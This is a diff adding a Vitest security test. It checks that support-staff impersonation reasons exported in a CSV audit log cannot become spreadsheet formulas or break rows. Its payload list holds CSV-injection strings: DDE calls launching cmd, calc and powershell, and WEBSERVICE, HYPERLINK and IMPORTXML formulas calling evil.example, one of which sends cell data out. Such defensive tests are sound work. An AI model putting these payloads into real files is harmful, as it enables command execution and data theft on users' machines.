@@ -1,0 +1,78 @@
+import { expect, inject, test } from "vitest";
+import { PolarControl } from "../polar-control.ts";
+import { Client } from "./client.ts";
+import { openDatabase, passWindows } from "./database.ts";
+import { report } from "./report.ts";
+import { scaled } from "./scale.ts";
+import { signInAsStaff } from "./staff.ts";
+
+const target = inject("target");
+const database = openDatabase();
+const polar = new PolarControl(target.polarUrl);
+
+const starts = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%", '"=', "\u200b=", ",=", ";=", '","='];
+const rests = [
+  "1+1+cmd|' /C calc'!A0",
+  'HYPERLINK("https://evil.example/","Click here")',
+  'WEBSERVICE("https://evil.example/"&A1)',
+  'IMPORTXML("https://evil.example/","//a")',
+  "SUM(1+1)*cmd|' /C notepad'!A0",
+  'DDE("cmd";"/C calc";"x") of ticket',
+  "rundll32|'URL.dll,OpenURL x'!A",
+  "2+5+cmd|'/C powershell x'!A0",
+  '1"," =1+1","=1+1 twice over',
+  "1;=1+1;=2+2 of ticket 4711",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "'=1+1 in quotes of another kind",
+  "A1:A9 \u202e and so on, turned",
+  "-+-+1+1 of ticket 4711, signs",
+];
+
+function payloads(count: number): string[] {
+  const all = starts.flatMap((start) => rests.map((rest) => start + rest));
+  expect(all.length).toBeGreaterThanOrEqual(count);
+  return Array.from({ length: count }, (_, index) => all[Math.floor((index * all.length) / count)] ?? "");
+}
+
+/** The file's cells as a spreadsheet program reads them (RFC 4180). @throws Error where it is no such file */
+function cells(csv: string): string[][] {
+  const rows: string[][] = [[]];
+  let rest = csv.replace(/^\uFEFF/, "");
+  while (rest !== "") {
+    const [field, quoted = "", end = ""] = /^"((?:[^"]|"")*)"(,|\r\n)/.exec(rest) ?? [];
+    if (field === undefined) throw new Error(`no field begins at: ${rest.slice(0, 80)}`);
+    rows.at(-1)?.push(quoted.replaceAll('""', '"'));
+    if (end === "\r\n") rows.push([]);
+    rest = rest.slice(field.length);
+  }
+  return rows.slice(0, -1);
+}
+
+test("no reason of a visit becomes a formula in the exported audit log, and none leaves its cell", async () => {
+  const given = payloads(scaled(200, 12));
+  const customer = await polar.makeCustomer();
+  const agent = new Client(target);
+  await signInAsStaff(target, agent, "lead");
+  for (const reason of given) {
+    await passWindows(database);
+    const { customer_id } = customer;
+    const started = await agent.post("/api/support/impersonations", { customer_id, reason });
+    expect([reason, started.status]).toEqual([reason, 201]);
+    await agent.send("DELETE", "/api/support/impersonations/current", "{}");
+  }
+  const auditor = new Client(target);
+  await signInAsStaff(target, auditor, "auditor");
+  const file = await auditor.get(`/api/support/audit/export?format=csv&customer=${customer.customer_id}`);
+  expect([file.status, file.headers["content-type"]]).toEqual([200, "text/csv; charset=utf-8; header=present"]);
+  const [header = [], ...rows] = cells(file.body);
+  const column = header.indexOf("reason");
+  const reasons = new Set(rows.map((row) => row[column]));
+  const formulas = rows.flat().filter((cell) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u.test(cell));
+  const torn = rows.filter((row) => row.length !== header.length);
+  report(
+    `CSV injection: ${given.length} payloads in ${rows.length} exported rows: ${formulas.length} formulas, ${torn.length} torn rows`,
+  );
+  expect(formulas).toEqual([]);
+  expect(torn).toEqual([]);
+  expect(reasons.size).toBe(given.length);
+});
